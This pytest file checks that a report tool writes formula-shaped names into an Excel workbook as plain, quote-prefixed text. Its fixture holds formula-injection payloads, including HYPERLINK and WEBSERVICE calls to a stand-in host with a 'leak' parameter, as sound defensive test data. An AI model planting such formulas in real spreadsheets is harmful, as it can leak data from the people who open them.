"""Nothing a unit submits becomes active content in the workbook: every text cell is text."""

from __future__ import annotations

from pathlib import Path

import openpyxl
import pytest
from click.testing import CliRunner

from reportkit.cli import main
from tests.conftest import MINIMAL_2007
from tests.hostile_runs import units

ACTIVE = [
    '=HYPERLINK("http://example.invalid/?leak=1","点此")',
    '=WEBSERVICE("http://example.invalid/")',
    "+1+2",
    "-3-4",
    "@SUM(A1:A9)",
    "=1+1",
    "#N/A",
]


@pytest.fixture
def book(tmp_path: Path) -> openpyxl.Workbook:
    """The workbook aggregate writes for units (and a 2007 category) with formula-like names."""
    data = units(*ACTIVE)(tmp_path)
    category = '=HYPERLINK("http://example.invalid/","分类")'
    path = data / "unit-0.yaml"
    text = path.read_text(encoding="utf-8").replace("名称: 其他信息", f"名称: '{category}'")
    path.write_text(text, encoding="utf-8")
    assert "名称: 其他信息" in MINIMAL_2007
    result = CliRunner().invoke(main, ["aggregate", str(data), "-o", str(tmp_path / "汇总")])
    assert result.exit_code == 0, result.output
    return openpyxl.load_workbook(tmp_path / "汇总.xlsx")


def test_formula_like_names_are_written_as_text(book: openpyxl.Workbook) -> None:
    """Every unit name that looks like a formula is a text cell holding exactly that name, marked
    quote-prefixed where a spreadsheet would take it for a formula."""
    for sheet in book.worksheets:
        names = {cell.value: cell for cell in sheet["B"] if cell.value in ACTIVE}
        if sheet.title == "问题明细":
            continue
        assert set(names) == set(ACTIVE), sheet.title
        for name, cell in names.items():
            assert cell.data_type == "s", (sheet.title, name)
            assert cell.quotePrefix == (name[0] in "=+-@"), (sheet.title, name)


def test_no_cell_of_any_sheet_is_a_formula(book: openpyxl.Workbook) -> None:
    """No cell in the whole workbook is a formula or an error value; the category named like a
    formula is a text header."""
    kinds = {
        cell.data_type for sheet in book.worksheets for row in sheet.iter_rows() for cell in row
    }
    assert "s" in kinds
    assert not kinds & {"f", "e"}  # formula, error value
    headers = [cell.value for sheet in book.worksheets for cell in sheet[1]]
    assert '=HYPERLINK("http://example.invalid/","分类")' in headers
